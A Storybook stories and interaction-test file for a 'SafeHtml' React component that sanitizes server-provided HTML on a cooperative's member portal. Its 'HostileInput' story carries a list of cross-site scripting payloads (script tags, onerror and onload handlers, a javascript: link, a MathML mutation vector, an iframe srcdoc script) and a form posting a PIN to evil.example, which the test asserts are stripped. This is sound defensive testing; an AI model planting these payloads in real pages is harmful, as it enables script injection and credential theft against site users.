import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, within } from 'storybook/test';
import { SafeHtml } from './SafeHtml';
import { inSpanish } from '../storyLocale';
import { kitStoryParameters } from '../storyParameters';

const aboutUs = `
<h2>About us</h2>
<p>Prairie Rivers Electric &amp; Water Cooperative is owned by the members it serves. We deliver
safe, reliable power and clean water to <strong>18,000 homes and farms</strong>.</p>
<h3>What membership means</h3>
<ul>
  <li>One member, one vote at the annual meeting.</li>
  <li>Capital credits returned when the co-op does well.</li>
  <li>Local crews who live where you live.</li>
</ul>
<ol>
  <li>Sign in to the portal.</li>
  <li>Open <a href="/my-profile">My Profile</a> to turn on paperless billing.</li>
</ol>
<p>Questions? <a href="mailto:members@prairierivers.example">Email member services</a> or read the
<a href="https://www.touchstoneenergy.example/">Touchstone Energy</a> guide.</p>
`;

const hostile = `
<p>Your payment was received.</p>
<script>window.__pwned = 'script'</script>
<img src="x" alt="" onerror="window.__pwned = 'onerror'">
<a href="javascript:window.__pwned='href'">View receipt</a>
<svg onload="window.__pwned='svg'"><circle r="4"></circle></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='math'">
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<form action="https://evil.example"><input name="pin"><button>Confirm</button></form>
`;

const meta = {
  title: 'UI/SafeHtml',
  component: SafeHtml,
  args: { html: aboutUs },
  parameters: {
    ...kitStoryParameters,
    docs: {
      description: {
        component:
          'The only place server-provided HTML (about us, legal terms, messages) is rendered. DOMPurify strips scripts, event handlers, inline styles, forms, frames, SVG/MathML and `javascript:` URLs; external links open in a new tab with `rel="noopener noreferrer"` and say so. The content gets the kit’s typography.',
      },
    },
  },
  decorators: [
    (Story) => (
      <div style={{ maxWidth: 640 }}>
        <Story />
      </div>
    ),
  ],
} satisfies Meta<typeof SafeHtml>;

export default meta;
type Story = StoryObj<typeof meta>;

export const Default: Story = {
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('heading', { level: 2, name: 'About us' })).toBeVisible();
    const external = canvas.getByRole('link', {
      name: 'Touchstone Energy (opens in a new tab)',
    });
    await expect(external).toHaveAttribute('target', '_blank');
    await expect(external).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(canvas.getByRole('link', { name: 'My Profile' })).not.toHaveAttribute('target');
  },
};

export const LinkHovered: Story = {
  play: async ({ canvasElement }) => {
    await userEvent.hover(within(canvasElement).getByRole('link', { name: 'My Profile' }));
  },
};

export const LinkFocusedByKeyboard: Story = {
  play: async ({ canvasElement }) => {
    await userEvent.tab();
    await expect(within(canvasElement).getByRole('link', { name: 'My Profile' })).toHaveFocus();
  },
};

/** Hostile server HTML: only the harmless text and elements survive. */
export const HostileInput: Story = {
  args: { html: hostile },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByText('Your payment was received.')).toBeVisible();
    const root = canvasElement.querySelector('div > div') ?? canvasElement;
    await expect(
      root.querySelectorAll('script, svg, math, iframe, form, input, style'),
    ).toHaveLength(0);
    await expect(root.querySelector('[onerror], [onload]')).toBeNull();
    await expect(canvas.getByText('View receipt')).not.toHaveAttribute('href');
    await expect((window as { __pwned?: string }).__pwned).toBeUndefined();
  },
};

/** A legal-terms section, named for screen readers. */
export const AsSection: Story = {
  args: {
    as: 'section',
    'aria-label': 'Legal terms',
    html: '<h2>Terms of use</h2><p>By using the portal you agree to these terms.</p>',
  },
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByRole('region', { name: 'Legal terms' })).toBeVisible();
  },
};

/** A short server message inline in a sentence. */
export const Inline: Story = {
  args: { as: 'span', html: 'Draft payments are <strong>paused</strong> this month.' },
};

/** No content from the server: an empty wrapper, nothing shown. */
export const Empty: Story = { args: { html: '' } };

/** In Spanish (US): a link to another site says, in Spanish, that it opens in a new tab. */
export const InSpanish: Story = {
  args: {
    html: '<p>¿Tiene preguntas? Lea la <a href="https://www.touchstoneenergy.example/">guía de Touchstone Energy</a>.</p>',
  },
  decorators: [inSpanish],
  play: async ({ canvasElement }) => {
    await expect(
      await within(canvasElement).findByRole('link', {
        name: /^guía de Touchstone Energy ?\(se abre en una pestaña nueva\)$/,
      }),
    ).toHaveAttribute('target', '_blank');
  },
};
